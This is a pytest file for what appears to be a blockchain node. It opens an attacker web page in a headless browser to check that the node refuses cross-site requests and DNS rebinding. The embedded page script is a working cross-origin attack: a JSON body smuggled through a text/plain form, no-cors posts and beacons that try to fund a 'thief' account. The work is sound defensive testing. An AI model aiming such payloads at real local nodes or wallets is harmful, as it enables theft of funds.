"""A page of somebody else, open in a real browser on the machine of a node: it can make the node do nothing."""

import json
import subprocess
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from foreman.sdk.account import Account
from tests.faults.up import Up
from tests.fetch.servers import Line, Seen, Server, page
from tests.hostile.node import told

THIEF = str(Account(b"\7" * 32))

SCRIPT = """<!doctype html><title>You have won</title><iframe name="hidden"></iframe><script>
const node = "NODE", money = (name) => JSON.stringify(
  {jsonrpc: "2.0", id: 1, method: "sim_fundAccount", params: ["THIEF", name]});
const json = {"content-type": "application/json"}, found = {};
const attempt = async (name, work) => {
  try { found[name] = String(await work()); } catch (error) { found[name] = "refused"; }
};
const text = async (answer) => answer.type === "opaque" ? "opaque" : answer.status + " " + await answer.text();
const opens = (channel, good) => new Promise((yes, no) => {
  channel[good] = () => yes("open"); channel.onerror = () => no(); setTimeout(() => yes("silence"), 3000);
});
const form = () => new Promise((done) => {
  const sent = document.createElement("form"), field = document.createElement("input");
  Object.assign(sent, {action: node + "/api", method: "POST", enctype: "text/plain", target: "hidden"});
  field.name = money(5).slice(0, -1) + ',"x":"'; field.value = '"}';
  sent.append(field); document.body.append(sent);
  document.querySelector("iframe").onload = () => done("sent"); sent.submit(); setTimeout(() => done("sent"), 3000);
});
(async () => {
  const post = (more) => fetch(node + "/api", {method: "POST", ...more}).then(text);
  await attempt("json", () => post({headers: json, body: money(1)}));
  await attempt("plain", () => post({mode: "no-cors", body: money(2)}));
  await attempt("json in disguise", () => post({mode: "no-cors", headers: json, body: money(3)}));
  await attempt("beacon", () => navigator.sendBeacon(node + "/api", new Blob([money(4)], {type: "text/plain"})));
  await attempt("form", form);
  await attempt("health", () => fetch(node + "/health").then(text));
  await attempt("config", () => fetch(node + "/config.json").then(text));
  await attempt("events", () => opens(new EventSource(node + "/events?after=0"), "onopen"));
  await attempt("websocket", () => opens(new WebSocket(node.replace("http", "ws") + "/api"), "onopen"));
  await fetch("/report", {method: "POST", body: JSON.stringify(found)});
})();
</script>"""


class Page:
    """The attacker's server: gives the page to whoever comes, and waits for what it has to report."""

    def __init__(self) -> None:
        self.node = ""
        self.report: dict[str, Any] = {}
        self.reported = threading.Event()
        self.asked_as: set[str] = set()

    def answer(self, line: Line, seen: Seen) -> None:
        self.asked_as.add(seen.headers["host"])
        if seen.path == "/report":
            self.report = json.loads(seen.body)
            line.send(page(b"thanks"))
            self.reported.set()
        else:
            text = SCRIPT.replace("NODE", self.node).replace("THIEF", THIEF)
            line.send(page(text.encode(), Content_Type="text/html"))


@contextmanager
def browsing(browser: str, profile: Path, url: str, *more: str) -> Iterator[None]:
    """A browser with one page open."""
    quiet = ["--disable-background-networking", "--disable-component-update", "--disable-sync", "--no-first-run"]
    flags = ["--headless", "--no-sandbox", "--disable-gpu", f"--user-data-dir={profile}", "--remote-debugging-port=0"]
    command = [browser, *flags, *quiet, *more, url]
    with subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) as process:
        try:
            yield
        finally:
            process.kill()


def attack(browser: str, tmp_path: Path, server: Server, attacker: Page, up: Up, node: str, *more: str) -> int:
    """Open the attacker's page in a browser; the wei it has got out of the node."""
    attacker.node = node
    wire = up.wire()
    before = wire.ask("eth_blockNumber")
    with browsing(browser, tmp_path / "profile", f"http://127.0.0.1:{server.port}/", *more):
        assert attacker.reported.wait(60), "the page did not get to its end"
    time.sleep(0.3)  # a beacon may still be on its way
    stolen = int(wire.ask("eth_getBalance", THIEF, "latest"), 16)
    assert stolen or wire.ask("eth_blockNumber") == before
    assert up.health() == "ok"
    wire.close()
    return stolen


@pytest.mark.browser
def test_a_page_from_another_site_gets_nothing_and_does_nothing(browser: str, tmp_path: Path) -> None:
    attacker = Page()
    with Server(attacker.answer) as server, Up(tmp_path / "state", {}, server.port) as up:
        assert attack(browser, tmp_path, server, attacker, up, up.origin) == 0
    assert attacker.report.pop("beacon") == "true", "it was sent, which no page can be kept from"
    assert attacker.report.pop("form") == "sent"
    assert attacker.report.pop("plain") in ("opaque", "refused")
    assert attacker.report.pop("json in disguise") in ("opaque", "refused")
    assert set(attacker.report) == {"json", "health", "config", "events", "websocket"}
    assert set(attacker.report.values()) == {"refused"}, attacker.report


@pytest.mark.browser
def test_the_same_page_from_a_trusted_origin_may_do_what_it_asks(browser: str, tmp_path: Path) -> None:
    """Or the test above would prove nothing: the attack works, it is the node that is closed to it."""
    attacker = Page()
    with Server(attacker.answer) as server:
        own = f"http://127.0.0.1:{server.port}"
        with Up(tmp_path / "state", {}, server.port, "--allow-origin", own) as up:
            assert attack(browser, tmp_path, server, attacker, up, up.origin) == 1, "only the honest request counts"
    assert attacker.report["json"].startswith("200 ")
    assert '"status"' in attacker.report["health"]
    assert attacker.report["events"] == "open"
    assert attacker.report["websocket"] == "refused", "there is none, for nobody"


@pytest.mark.browser
def test_a_name_that_is_made_to_point_here_is_refused_by_its_name(browser: str, tmp_path: Path) -> None:
    """DNS rebinding: to the browser the node is a host of the attacker's own, by name and port."""
    attacker = Page()
    with Server(attacker.answer) as server, Up(tmp_path / "state", {}, server.port) as up:
        port = up.origin.rpartition(":")[2]
        rebound = f"http://rebound.example:{port}"
        rule = "--host-resolver-rules=MAP rebound.example 127.0.0.1"
        assert attack(browser, tmp_path, server, attacker, up, rebound, rule) == 0
        assert attacker.report["json"] == attacker.report["health"] == attacker.report["events"] == "refused"
        flags = ["--headless", "--no-sandbox", "--disable-gpu", f"--user-data-dir={tmp_path / 'second'}", rule]
        shown = subprocess.run(
            [browser, *flags, "--dump-dom", f"{rebound}/config.json"],
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
        ).stdout
        told(json.loads(shown[shown.index("{") : shown.rindex("}") + 1]))
        assert "this node does not answer to the host" in shown
        assert "contracts" not in shown
